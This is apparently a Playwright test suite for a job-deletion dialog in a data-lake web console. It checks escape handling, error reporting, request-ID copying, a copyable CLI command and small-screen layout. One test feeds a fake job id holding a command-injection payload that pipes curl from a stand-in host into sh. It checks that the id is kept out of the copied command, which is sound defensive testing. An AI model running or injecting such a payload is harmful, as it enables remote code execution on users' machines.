import { refusedErrorCode } from '@lakeformation-jobs/contract';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest';
import { FaultProxy } from '../../src/fault-proxy.ts';
import { apiAt } from '../../src/reference/api.ts';
import { startService } from '../../src/targets/service.ts';
import type { Service } from '../../src/targets/service.ts';
import { asksBeforeItIsLeft, inBrowser, isLeftUnasked, rowsOf, signIn, turnTab } from './support/in-browser.ts';

/** Several jobs are deleted: what is asked, what can be left, and what is told of each. */
inBrowser('the console while it deletes', (open) => {
  let service: Service;
  let proxy: FaultProxy;
  beforeAll(async () => {
    service = await startService({ flags: ['--seed-jobs', '180', '--runner-stopping', '0'] });
    proxy = await FaultProxy.start(service.address);
  });
  beforeEach(() => proxy.spoil());
  afterAll(async () => {
    await proxy?.stop();
    await service?.stop();
  });

  /** Selects jobs of a status and asks for their deletion. */
  async function reviewed(page: Page, status: string, count: number): Promise<string[]> {
    await page.goto(`${proxy.address}/console/?status=${status}`);
    await signIn(page);
    await rowsOf(page).nth(count).waitFor();
    const ids: string[] = [];
    for (let row = 0; row < count; row++) {
      await rowsOf(page).nth(row).getByRole('checkbox').click();
      ids.push((await rowsOf(page).nth(row).getAttribute('data-row'))!);
    }
    await page.getByRole('button', { name: 'Delete …' }).click();
    await page.getByRole('alertdialog', { name: `Delete ${count} jobs?` }).waitFor();
    return ids;
  }

  async function confirm(page: Page, count: number): Promise<void> {
    const dialog = page.getByRole('alertdialog');
    await dialog.getByLabel(/^Type/).fill(`delete ${count}`);
    await dialog.getByRole('button', { name: `Delete ${count} jobs` }).click();
  }

  const ended = (page: Page, count: number): Promise<void> => page.getByRole('heading', { name: `What became of ${count} jobs` }).waitFor({ timeout: 30_000 });

  it('Esc, once or twice, closes nothing while requests are under way, and closes it afterwards', async () => {
    proxy.spoil({ operation: 'deleteJob', kind: { slow: 4_000 } });
    const { page } = await open();
    await reviewed(page, 'SUCCESS', 2);
    await confirm(page, 2);
    const dialog = page.getByRole('alertdialog', { name: 'Deleting 2 jobs' });
    await dialog.waitFor();
    for (let times = 0; times < 4; times++) await page.keyboard.press('Escape');
    // What is pressed where nothing has the focus does not pass through the dialog.
    await page.evaluate('document.activeElement.blur()');
    for (let times = 0; times < 4; times++) await page.keyboard.press('Escape');
    expect(await page.evaluate('document.querySelector("dialog").matches(":modal")')).toBe(true);
    expect(await dialog.isVisible()).toBe(true);
    await ended(page, 2);
    await page.keyboard.press('Escape');
    await expect.poll(() => page.locator('dialog').count()).toBe(0);
  }, 60_000);

  it('a dialog that something else closed is open again while requests are under way', async () => {
    proxy.spoil({ operation: 'deleteJob', kind: { slow: 3_000 } });
    const { page } = await open();
    await reviewed(page, 'SUCCESS', 2);
    await confirm(page, 2);
    await page.getByRole('alertdialog', { name: 'Deleting 2 jobs' }).waitFor();
    await page.evaluate('document.querySelector("dialog").close()');
    await expect.poll(() => page.evaluate('document.querySelector("dialog")?.matches(":modal")')).toBe(true);
    await ended(page, 2);
  }, 60_000);

  it('leaving the page asks first while requests are under way, and not afterwards', async () => {
    proxy.spoil({ operation: 'deleteJob', kind: { slow: 3_000 } });
    const { page } = await open();
    await reviewed(page, 'SUCCESS', 2);
    await confirm(page, 2);
    await page.getByRole('alertdialog', { name: 'Deleting 2 jobs' }).waitFor();
    await asksBeforeItIsLeft(page);
    await ended(page, 2);
    expect(await page.locator('tr[data-outcome=deleted]').count()).toBe(2);
    await isLeftUnasked(page);
  }, 60_000);

  it('what is deleted is what was asked about, whatever becomes of the list meanwhile', async () => {
    const api = apiAt(service.address);
    const { page, asked } = await open();
    const ids = await reviewed(page, 'CREATED', 2);
    const listed = (): Promise<string[]> => page.getByRole('region', { name: 'Jobs to be deleted' }).locator('td.mono').allTextContents();
    expect((await listed()).sort()).toEqual(ids.toSorted());
    // Somebody else deletes one of them and creates another, and the list is read again behind the question.
    expect((await api('deleteJob', { job_id: ids[0]! })).status).toBe(200);
    const made = await api('createJob', { body: { name: 'made_meanwhile', type: 'METADATA_DISCOVERY', parameter: { metadata_discovery_parameter: { data_location: 'obs://lake/raw' } } } });
    expect(made.status).toBe(201);
    for (const state of ['hidden', 'visible'] as const) await turnTab(page, state);
    await expect.poll(() => page.locator(`tr[data-row="${ids[0]}"]`).count(), { timeout: 10_000 }).toBe(0);
    expect((await listed()).sort()).toEqual(ids.toSorted());
    await confirm(page, 2);
    await ended(page, 2);
    expect(asked.flatMap((line) => /^DELETE \S+\/lf-jobs\/(\S+)/.exec(line)?.[1] ?? []).sort()).toEqual(ids.toSorted());
    expect(await page.locator('tr[data-job]').evaluateAll((rows) => (rows as unknown as { dataset: { outcome?: string } }[]).map(({ dataset }) => dataset.outcome).sort())).toEqual(['deleted', 'not_found']);
    expect((await api('getJob', { job_id: (made.json as { id: string }).id })).status).toBe(200);
  }, 60_000);

  it('each that did not succeed tells message, proposal and request ID, which can be copied', async () => {
    const { page } = await open();
    const ids = await reviewed(page, 'SUCCESS', 2);
    await page.route(`**/lf-jobs/${ids[0]}`, (route) => route.fulfill({
      status: 400, headers: { 'X-request-id': 'request-of-the-refused' }, json: { error_code: 'lf.0001', error_msg: 'It is held by a hand.', solution_msg: 'Ask the hand to let go.' },
    }));
    await confirm(page, 2);
    await ended(page, 2);
    const row = page.locator(`tr[data-job="${ids[0]}"]`);
    expect(await row.getAttribute('data-outcome')).toBe('failed');
    for (const text of ['It is held by a hand.', 'Ask the hand to let go.', 'request-of-the-refused']) expect(await row.innerText()).toContain(text);
    await row.getByRole('button', { name: 'Copy the request ID' }).click();
    await row.getByText('Copied', { exact: true }).waitFor();
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('request-of-the-refused');
    // What was deleted has nothing to ask support about.
    expect(await page.locator(`tr[data-job="${ids[1]}"]`).getByRole('button').count()).toBe(0);
  }, 60_000);

  it('an id from a service that is none of the contract does not get into the copied command', async () => {
    const { page } = await open();
    const good = '03141229-84cd-4b1b-9733-dd124320c125';
    const hostile = 'x; curl http://evil|sh\n';
    const jobs = [good, hostile].map((id, index) => ({ id, name: `job_${index}`, type: 'METADATA_MIGRATION', status: 'SUCCESS', create_time: '2023-05-27T10:04:35.743Z' }));
    await page.route('**/lf-jobs?*', (route) => route.fulfill({ json: { total: 2, jobs } }));
    await page.route(`**/lf-jobs/${good}`, (route) => route.fulfill({ status: 400, json: { error_code: 'lf.0001', error_msg: 'no' } }));
    await page.goto(`${proxy.address}/console/?type=METADATA_MIGRATION`);
    await signIn(page);
    for (const row of [0, 1]) await rowsOf(page).nth(row).getByRole('checkbox').click();
    await page.getByRole('button', { name: 'Delete …' }).click();
    await confirm(page, 2);
    await ended(page, 2);
    await page.getByText('1 ID is left out of the lfj command').waitFor();
    await page.getByRole('button', { name: 'Copy as lfj command' }).click();
    await page.getByRole('button', { name: 'Copied' }).waitFor();
    const command = await page.evaluate<string>('navigator.clipboard.readText()');
    expect(command).toMatch(new RegExp(`^npx --no lfj delete [^;|\n]* -- ${good}$`));
  }, 60_000);

  it('the lfj command: says when it could not be copied, and after a retry, which makes it another, nothing', async () => {
    const { page } = await open();
    const ids = await reviewed(page, 'SUCCESS', 2);
    const refuse = (id: string): Promise<unknown> => page.route(`**/lf-jobs/${id}`, (route) => route.fulfill({ status: 400, json: { error_code: 'lf.0001', error_msg: 'no' } }));
    for (const id of ids) await refuse(id);
    await confirm(page, 2);
    await ended(page, 2);
    const dialog = page.getByRole('alertdialog');
    const command = (name: string) => dialog.getByRole('button', { name, exact: true });
    const clipboard = (works: boolean): Promise<unknown> => page.evaluate(`navigator.clipboard.writeText = async () => { if (!${works}) throw new Error('refused'); }`);
    await clipboard(false);
    await command('Copy as lfj command').click();
    await command('Could not be copied').waitFor();
    await clipboard(true);
    await command('Could not be copied').click();
    await command('Copied').waitFor();
    await page.unroute(`**/lf-jobs/${ids[0]}`);
    await command('Retry 2').click();
    await page.locator('tr[data-outcome=deleted]').waitFor();
    await ended(page, 2);
    await command('Copy as lfj command').waitFor();
  }, 60_000);

  it('a problem gives its request ID away', async () => {
    const { page } = await open();
    await page.route('**/lf-jobs?*', (route) => route.fulfill({ status: 403, headers: { 'X-request-id': 'request-of-the-list' }, json: { error_code: 'lf.0403', error_msg: 'no' } }));
    await page.goto(`${proxy.address}/console/`);
    await signIn(page);
    const alert = page.getByRole('alert').first();
    await alert.getByRole('button', { name: 'Copy the request ID' }).click();
    await alert.getByText('Copied', { exact: true }).waitFor();
    expect(await page.evaluate('navigator.clipboard.readText()')).toBe('request-of-the-list');
  });

  /** Whether something can be scrolled to so that it is seen whole, or 80 pixels of it, and nothing stands before it. */
  const reached = (page: Page, selector: string): Promise<unknown> => page.evaluate(`(() => {
    const element = document.querySelector(${JSON.stringify(selector)});
    element.scrollIntoView({ block: 'center' });
    const own = element.getBoundingClientRect();
    let [top, bottom] = [Math.max(0, own.top), Math.min(innerHeight, own.bottom)];
    for (let around = element.parentElement; around; around = around.parentElement) {
      if (getComputedStyle(around).overflowY === 'visible') continue;
      const rect = around.getBoundingClientRect();
      [top, bottom] = [Math.max(top, rect.top), Math.min(bottom, rect.bottom)];
    }
    const there = document.elementFromPoint(own.left + own.width / 2, (top + bottom) / 2);
    return own.height > 0 && bottom - top > Math.min(own.height, 80) - 1 && element.contains(there);
  })()`);

  /** What is wider than its place, within the dialog and around it. */
  const sideways = (page: Page): Promise<unknown> => page.evaluate(`[document.documentElement, ...document.querySelectorAll('dialog, dialog *')]
    .filter((element) => element.scrollWidth > element.clientWidth && ['auto', 'scroll'].includes(getComputedStyle(element).overflowX) || element.getBoundingClientRect().right > innerWidth + 1)
    .filter((element) => !element.closest('.unseen, [type=checkbox]')).map((element) => element.outerHTML.slice(0, 80))`);

  it('320 by 256: question and results can be read, and nothing scrolls sideways', async () => {
    const { page } = await open();
    const ids = await reviewed(page, 'SUCCESS', 3);
    await page.setViewportSize({ width: 320, height: 256 });
    expect(await sideways(page)).toEqual([]);
    for (const part of ['h2', 'tr:last-child td', 'input', 'button:last-of-type']) expect([part, await reached(page, `dialog ${part}`)]).toEqual([part, true]);
    // One fails, and one has to be stopped first: so every button is there.
    for (const [index, error_code] of ['lf.0001', refusedErrorCode].entries()) {
      await page.route(`**/lf-jobs/${ids[index]}`, (route) => route.fulfill({
        status: 400, headers: { 'X-request-id': 'request-of-the-refused' }, json: { error_code, error_msg: 'It is held by a hand.', solution_msg: 'Ask the hand to let go.' },
      }));
    }
    await confirm(page, 3);
    await ended(page, 3);
    expect(await page.locator('dialog button:not(table button)').count()).toBe(6);
    expect(await sideways(page)).toEqual([]);
    for (const id of ids) expect([id, await reached(page, `tr[data-job="${id}"] td`)]).toEqual([id, true]);
    for (const part of ['h2', '[role=progressbar]', `tr[data-job="${ids[0]}"] button`]) expect([part, await reached(page, `dialog ${part}`)]).toEqual([part, true]);
    const region = (await page.getByRole('region', { name: 'What became of each job' }).boundingBox())!;
    expect(region.height).toBeGreaterThan(100);
    await page.getByRole('button', { name: 'Close', exact: true }).last().click();
    await expect.poll(() => page.locator('dialog').count()).toBe(0);
  }, 60_000);
});
